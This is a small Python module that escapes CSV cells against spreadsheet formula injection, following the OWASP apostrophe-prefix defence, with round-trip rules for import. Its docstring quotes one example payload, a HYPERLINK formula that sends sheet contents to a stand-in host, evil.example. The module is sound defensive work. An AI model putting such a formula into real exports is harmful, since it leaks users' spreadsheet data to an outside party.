"""CSV cells that a spreadsheet shows rather than runs, and that read back as they were written.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a
formula: a title such as ``=HYPERLINK("http://evil.example/?"&A1)`` becomes a link that leaks the sheet.
OWASP's defence is an apostrophe in front, which spreadsheets show as text and never run; import takes it off
again. So that this gives back exactly what was exported, an apostrophe also goes in front of a text that
starts with an apostrophe followed by one of those characters, another apostrophe or nothing, and import
takes off only an apostrophe so followed (``'Tis`` stays as it is both ways).

An empty text is a lone apostrophe, so that it stays apart from a missing value, which is an empty cell:
a spreadsheet shows both, and a blank cell means what a spreadsheet user expects it to.
"""
FORMULA_STARTS = frozenset("=+-@\t\r")
# What follows an apostrophe that marks a cell: nothing (an empty text), an apostrophe, and with the defence on,
# the first character of a formula.
MARKED = {True: FORMULA_STARTS | {"", "'"}, False: frozenset({"", "'"})}


def to_cell(text, escape_formulas=True):
    """The cell for ``text``, with an apostrophe in front where import, or a spreadsheet, would misread it."""
    first, second = text[:1], text[1:2]
    marked = second if first == "'" else first
    return "'" + text if marked in MARKED[escape_formulas] else text


def from_cell(cell, escape_formulas=True):
    """The text of a cell that ``to_cell`` wrote."""
    return cell[1:] if cell[:1] == "'" and cell[1:2] in MARKED[escape_formulas] else cell
